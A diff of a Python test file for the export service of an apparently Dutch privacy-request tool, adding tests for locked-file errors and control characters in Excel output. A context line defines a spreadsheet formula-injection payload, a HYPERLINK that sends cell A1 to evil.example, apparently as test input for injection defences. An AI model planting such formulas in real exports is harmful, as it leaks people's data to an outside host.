@@ -12,7 +12,7 @@ from openpyxl import load_workbook
 
 from privacydesk.core.workflow import Status
 from privacydesk.services import Services
-from privacydesk.services.export import HEADER, ExportError, ExportFormat
+from privacydesk.services.export import HEADER, ExportError, ExportFormat, write_file
 from tests.services.helpers import new_request
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Klik hier")'
@@ -156,3 +156,37 @@ def test_the_csv_is_quoted_exactly_as_the_csv_module_quotes_it() -> None:
             ]
         )
     assert csv_bytes(table) == expected.getvalue().encode("utf-8-sig")
+
+
+@pytest.mark.parametrize(
+    ("name", "hint"),
+    [("register.xlsx", "open in Excel"), ("brief.pdf", "open in een PDF-lezer")],
+)
+def test_a_locked_file_names_the_program_to_close(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str, hint: str
+) -> None:
+    import os
+
+    def locked(source: object, target: object) -> None:  # Windows: open in another program
+        raise PermissionError(13, "Permission denied", str(target))
+
+    monkeypatch.setattr(os, "replace", locked)
+    with pytest.raises(ExportError) as raised:
+        write_file(tmp_path / name, b"data")
+    assert (
+        str(raised.value)
+        == f"{tmp_path / name} kan niet geschreven worden: geen toegang (is het bestand nog {hint}?)."
+    )
+    assert list(tmp_path.iterdir()) == []  # nothing half-written left behind
+
+
+def test_a_control_character_in_a_name_does_not_stop_the_excel_export() -> None:
+    from privacydesk.services.export import ExportTable, xlsx_bytes
+
+    table = ExportTable(HEADER[:2], [("PD-2026-0001", "Piet\x07Bel"), ("PD-2026-0002", "An")])
+    sheet = load_workbook(io.BytesIO(xlsx_bytes(table))).active
+    assert sheet is not None
+    assert [row[1] for row in sheet.iter_rows(min_row=2, values_only=True)] == [
+        "Piet\ufffdBel",
+        "An",
+    ]
